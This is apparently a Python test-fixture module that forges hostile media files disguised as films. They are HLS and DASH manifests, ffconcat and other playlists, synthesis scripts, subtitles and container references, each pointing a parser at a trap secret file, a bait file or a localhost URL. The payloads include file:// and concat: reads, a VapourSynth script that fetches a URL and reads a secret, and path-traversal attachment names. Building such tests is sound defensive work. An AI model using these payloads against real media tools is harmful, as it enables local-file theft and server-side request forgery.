"""Playlists, manifests, scripts and references disguised as films, each aimed at a trap."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.hostile import forge
from tests.hostile.forge import lines, playlist
from tests.hostile.traps import Trap

Build = Callable[[Trap], bytes]


def _hls() -> Iterator[tuple[str, Build]]:
    end = "#EXTINF:10,"
    yield "hls-file.mkv", lambda t: playlist(end, f"file://{t.secret}")
    yield "hls-path.ts", lambda t: playlist(end, str(t.secret))
    yield "hls-http.mp4", lambda t: playlist(end, t.url)
    yield "hls-beside.avi", lambda t: playlist(end, t.bait.name)
    yield (
        "hls-subfile.mkv",
        lambda t: playlist(
            end, f"subfile,,start,0,end,4000,,:{t.secret}", end, f"concat:{t.secret}|{t.bait}"
        ),
    )
    yield "hls-crypto.mkv", lambda t: playlist(end, f"crypto+file:{t.secret}")
    yield "hls-data.mkv", lambda t: playlist(end, "data:video/mp2t;base64,R0AAEA==", end, t.url)
    yield (
        "hls-key.mkv",
        lambda t: playlist(f'#EXT-X-KEY:METHOD=AES-128,URI="file://{t.secret}"', end, t.bait.name),
    )
    yield (
        "hls-key-http.ts",
        lambda t: playlist(f'#EXT-X-KEY:METHOD=AES-128,URI="{t.url}"', end, t.bait.name),
    )
    yield "hls-map.m4v", lambda t: playlist(f'#EXT-X-MAP:URI="{t.secret}"', end, t.bait.name)
    yield (
        "hls-master.mov",
        lambda t: playlist(
            "#EXT-X-STREAM-INF:BANDWIDTH=1", t.url, "#EXT-X-STREAM-INF:BANDWIDTH=2", str(t.secret)
        ),
    )
    yield "hls-behind-bom.mkv", lambda t: b"\xef\xbb\xbf" + playlist(end, f"file://{t.secret}")
    yield "hls-behind-space.mkv", lambda t: b"\n \n" + playlist(end, f"file://{t.secret}")
    yield "hls-behind-id3.ts", lambda t: b"ID3\3\0\0\0\0\0\x0a" + bytes(10) + playlist(end, t.url)


def _dash(base: str, media: str) -> bytes:
    return lines(
        '<?xml version="1.0"?>',
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"'
        ' profiles="urn:mpeg:dash:profile:isoff-main:2011"'
        ' type="static" mediaPresentationDuration="PT2S"><Period>',
        f"<BaseURL>{base}</BaseURL>",
        '<AdaptationSet mimeType="video/mp2t"><Representation id="1" bandwidth="1" width="64"'
        ' height="64"><SegmentList duration="2">',
        f'<Initialization sourceURL="{media}"/><SegmentURL media="{media}"/>',
        "</SegmentList></Representation></AdaptationSet></Period></MPD>",
    )


def _manifests() -> Iterator[tuple[str, Build]]:
    yield "dash-http.mp4", lambda t: _dash(f"http://127.0.0.1:{t.port}/", "x.ts")
    yield "dash-file.mkv", lambda t: _dash(f"file://{t.secret.parent}/", t.secret.name)
    yield "dash-beside.webm", lambda t: _dash("", t.bait.name)
    yield "concat-beside.mkv", lambda t: lines("ffconcat version 1.0", f"file {t.bait.name}")
    yield "concat-file.ts", lambda t: lines("ffconcat version 1.0", f"file '{t.secret}'")
    yield "concat-http.avi", lambda t: lines("ffconcat version 1.0", f"file {t.url}")
    yield (
        "concat-option.mkv",
        lambda t: lines(
            "ffconcat version 1.0",
            f"file {t.bait.name}",
            "option safe 0",
            "option format_whitelist hls",
        ),
    )
    yield "session.mkv", lambda t: lines(
        "v=0", "o=- 0 0 IN IP4 127.0.0.1", "s=x", "c=IN IP4 127.0.0.1", "t=0 0",
        f"m=video {t.port} RTP/AVP 96", "a=rtpmap:96 H264/90000",
    )  # fmt: skip
    yield "session-tcp.ts", lambda t: lines(
        "v=0", "o=- 0 0 IN IP4 127.0.0.1", "s=x", f"a=control:rtsp://127.0.0.1:{t.port}/",
        "c=IN IP4 127.0.0.1", "t=0 0", f"m=video {t.port} RTP/AVP 33",
    )  # fmt: skip
    yield (
        "imf.mxf",
        lambda t: lines(
            '<?xml version="1.0"?>',
            '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">',
            "<Id>urn:uuid:0eb3d1b9-b77b-4d3f-bbe5-7c69b15dca85</Id>",
            f"<ContentTitle>{t.url}</ContentTitle></CompositionPlaylist>",
        ),
    )
    yield (
        "asx.wmv",
        lambda t: lines(
            f'<ASX version="3.0"><ENTRY><REF HREF="{t.url}"/><REF HREF="{t.secret}"/></ENTRY></ASX>'
        ),
    )
    yield "reference.asf", lambda t: lines("[Reference]", f"Ref1={t.url}", f"Ref2={t.secret}")
    yield "list.pls.mkv", lambda t: lines("[playlist]", f"File1={t.url}", "NumberOfEntries=1")
    yield "redirect.rm", lambda t: lines(f"rtsp://127.0.0.1:{t.port}/x.rm", t.url, str(t.secret))
    yield "smil.rmvb", lambda t: lines(f'<smil><body><video src="{t.url}"/></body></smil>')
    yield (
        "xspf.mkv",
        lambda t: lines(
            '<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList>',
            f"<track><location>file://{t.secret}</location></track></trackList></playlist>",
        ),
    )


def _scripts() -> Iterator[tuple[str, Build]]:
    yield "avisynth.avi", lambda t: lines(f'DirectShowSource("{t.secret}")', f'Import("{t.bait}")')
    yield "vapoursynth.mkv", lambda t: lines(
        "import vapoursynth as vs, urllib.request", f'urllib.request.urlopen("{t.url}")',
        f'open("{t.secret}").read()', "vs.core.std.BlankClip().set_output()",
    )  # fmt: skip
    yield "filter-graph.mkv", lambda t: lines(f"movie={t.bait.name}[out0]")
    yield "metadata.mkv", lambda t: lines(";FFMETADATA1", f"title=@{t.secret}")
    yield "vobsub.mpg", lambda t: lines("# VobSub index file, v7", "timestamp: 00:00:00:000")
    yield "sbg.mkv", lambda t: lines(f"-m {t.secret}", "NOW A", "A: 200+10/20")
    yield (
        "timed-text.mp4",
        lambda t: lines(
            '<?xml version="1.0"?><tt xmlns="http://www.w3.org/ns/ttml"><head><resources>',
            f'<font src="{t.url}"/></resources></head><body/></tt>',
        ),
    )
    yield (
        "substation.mkv",
        lambda t: lines(
            "[Script Info]", "ScriptType: v4.00+", "[Fonts]", f"fontname: {t.secret}", "[Events]"
        ),
    )
    yield (
        "web-subtitles.mkv",
        lambda t: lines("WEBVTT", "", "STYLE", f"::cue {{ background: url({t.url}) }}"),
    )
    yield (
        "drawing.mkv",
        lambda t: lines(f'<svg xmlns:xlink="x"><image xlink:href="file://{t.secret}"/></svg>'),
    )
    yield "magic-lantern.mkv", lambda _: b"MLVI" + b"\x34\0\0\0" + b"v2.0\0\0\0\0" + bytes(400)
    yield "disc.vob", lambda _: b"DVDVIDEO-VTS" + bytes(4000)
    yield "disc-index.m2ts", lambda _: b"INDX0200" + bytes(4000)
    yield "disc-list.m2ts", lambda t: b"MPLS0200" + bytes(30) + t.bait.name.encode() + bytes(4000)


def _by_url(text: str) -> bytes:
    return forge.full_box(b"url ", text.encode() + b"\0")


def _by_urn(text: str) -> bytes:
    return forge.full_box(b"urn ", b"x\0" + text.encode() + b"\0")


def _text_track(kind: str) -> Build:
    def build(trap: Trap) -> bytes:
        scripts = {
            "hls": playlist("#EXTINF:10,", f"file://{trap.secret}", "#EXTINF:10,", trap.url),
            "concat": lines("ffconcat version 1.0", f"file {trap.bait.name}"),
            "dash": _dash(f"http://127.0.0.1:{trap.port}/", "x.ts"),
        }
        return forge.avi_with_subtitles(scripts[kind])

    return build


def _references() -> Iterator[tuple[str, Build]]:
    yield "data-url-http.mov", lambda t: forge.movie(forge.trak(_by_url(t.url)))
    yield "data-url-file.mp4", lambda t: forge.movie(forge.trak(_by_url(f"file://{t.secret}")))
    yield "data-url-beside.mp4", lambda t: forge.movie(forge.trak(_by_url(t.bait.name)))
    yield "data-urn.mov", lambda t: forge.movie(forge.trak(_by_urn(str(t.secret))))
    yield "data-alias-file.mov", lambda t: forge.movie(forge.trak(forge.alias(str(t.secret))))
    yield "data-alias-beside.mov", lambda t: forge.movie(forge.trak(forge.alias(str(t.bait))))
    yield "reference.mov", lambda t: forge.reference_movie(b"url ", t.url)
    yield "reference-alias.qt", lambda t: forge.reference_movie(b"alis", str(t.secret))
    yield "linked.mkv", lambda t: forge.matroska(
        info=forge.element("73a4", bytes(16)) + forge.element("3eb923", b"\1" * 16)
        + forge.element("3e83bb", t.bait.name.encode())
    )  # fmt: skip
    yield "chapters-elsewhere.mkv", lambda _: forge.matroska(
        more=forge.element(
            "1043a770",
            forge.element(
                "45b9",
                forge.element("45dd", b"\1")
                + forge.element(
                    "b6",
                    forge.element("73c4", b"\1") + forge.element("91", b"\0")
                    + forge.element("6e67", b"\1" * 16),
                ),
            ),
        )
    )  # fmt: skip
    yield "picture-attached.mkv", lambda t: forge.matroska(
        more=forge.attachment(
            b"../../cover.svg", b"image/svg+xml",
            f'<svg xmlns:xlink="x"><image xlink:href="file://{t.secret}"/></svg>'.encode(),
        )
    )  # fmt: skip
    for kind in ("hls", "concat", "dash"):
        yield f"text-track-{kind}.avi", _text_track(kind)


ATTACKS: dict[str, Build] = {
    name: build for group in (_hls, _manifests, _scripts, _references) for name, build in group()
}
"""Attacks by the name of the film that they pretend to be."""
